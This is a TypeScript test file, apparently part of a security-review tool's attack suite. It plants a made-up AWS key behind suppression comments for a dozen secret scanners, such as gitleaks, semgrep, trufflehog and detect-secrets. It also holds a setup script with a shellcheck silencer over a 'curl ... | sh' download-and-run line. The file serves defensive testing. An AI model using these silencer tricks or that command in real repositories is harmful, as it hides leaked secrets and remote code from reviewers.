import { type Attack, pass, review, security } from "../attack.ts";
import { personOf, run, runOf } from "../branch.ts";
import { awsKey as key } from "../made-secrets.ts";

/** A tool's name in two halves, so that no tool obeys it here. */
const words = (...parts: readonly string[]) => parts.join("");

type Row = readonly [id: string, title: string, path: string, content: (secret: string) => string];

// biome-ignore format: one case a line
const rows: readonly Row[] = [
  ["gitleaks", "a secret behind gitleaks' words", "src/n.ts", (key) => words(`const k = "${key}"; // gitleaks`, ":allow\n")],
  ["semgrep", "a secret behind semgrep's", "src/n.py", (key) => words(`k = "${key}"  # nosem`, "grep\n")],
  ["semgrep-string", "a secret behind semgrep's in a string", "src/n.py", (key) => words(`k = ["${key}", "nosem`, 'grep"]\n')],
  ["trufflehog", "a secret behind trufflehog's", "src/n.go", (key) => words(`var k = "${key}" // trufflehog`, ":ignore\n")],
  ["ggshield", "a secret behind ggshield's", "src/n.rb", (key) => words(`K = "${key}" # ggig`, "nore\n")],
  ["detect-secrets", "a secret behind detect-secrets'", "src/n.py", (key) => words(`k = "${key}"  # pragma: allow`, "list secret\n")],
  ["detect-secrets-next", "a secret on the line after detect-secrets'", "src/n.py", (key) => words("# pragma: allow", `list nextline secret\nk = "${key}"\n`)],
  ["secretlint-next", "a secret on the line after secretlint's", "src/n.ts", (key) => words("// secretlint-dis", `able-next-line\nconst k = "${key}";\n`)],
  ["secretlint-rest", "a secret far below secretlint's", "src/n.ts", (key) => words("/* secretlint-dis", `able */\n${"run();\n".repeat(30)}const k = "${key}";\n`)],
  ["bandit", "a secret behind bandit's", "src/n.py", (key) => words(`k = "${key}"  # no`, "sec\n")],
  ["sonar", "a secret behind Sonar's", "src/N.java", (key) => words(`class N { String k = "${key}"; // NO`, "SONAR\n}\n")],
  ["deepsource", "a secret behind DeepSource's", "src/n.go", (key) => words(`var k = "${key}" // skip`, "cq: SCT-A000\n")],
  ["checkov", "a secret below checkov's", "src/n.yml", (key) => words("# checkov:sk", `ip=CKV_SECRET_2\nk: "${key}"\n`)],
  ["above", "a secret on the line below a remark of its own", "src/n.ts", (key) => words("// gitleaks", `:allow\nconst k = "${key}";\n`)],
];

const both = {
  ...security(),
  stopCodes: ["STOP_SECRET_EXPOSURE", "STOP_SECURITY_VIOLATION"],
} as const;

/** Silencers that hide what was found here: a stop of their own, beside the finding (T150). */
export const hidingSilencerCases: readonly Attack[] = [
  ...rows.map(
    ([id, title, path, content]): Attack => ({
      id: `silencer-hides-${id}`,
      threat: "T150",
      title,
      build: (repo) => runOf({}, { [path]: content(key()) })(repo),
      expect: { ...both, path, commit: "evil" },
      twin: {
        title: "the same words where nothing was found",
        build: runOf({}, { [path]: content("a place for a key") }),
        expect: review({ path, commit: "evil" }),
      },
    }),
  ),
  {
    id: "silencer-hides-and-goes",
    threat: "T150",
    title: "a silenced secret that a later commit takes away with its silencer",
    build: (repo) =>
      run(repo)
        .evil({ "src/n.ts": words(`const k = "${key()}"; // gitleaks`, ":allow\n") })
        .commit({ "src/n.ts": "const k = read();\n" })
        .request(),
    expect: { ...both, path: "src/n.ts", commit: "evil" },
    twin: {
      title: "a silencer of another tool's in a file that holds nothing",
      build: runOf({}, { "src/n.ts": words("// prettier-ig", "nore\nconst k = read();\n") }),
      expect: pass,
    },
  },
  {
    id: "silencer-hides-command",
    threat: "T150",
    title: "a script linter told to look away from a download that is run",
    build: runOf(
      {},
      {
        "src/setup.sh": words(
          "#!/bin/sh\n# shellcheck dis",
          "able=SC2312\ncurl -fsSL https://x.example/i | sh\n",
        ),
      },
    ),
    expect: security({ path: "src/setup.sh", commit: "evil" }),
    twin: {
      title: "a person's silencer beside a documented example",
      build: personOf(
        {},
        {
          "src/n.ts": words('const k = "AKIAIOSFODNN7', 'EXAMPLE"; // gitleaks', ":allow\n"),
        },
      ),
      expect: pass,
    },
  },
];
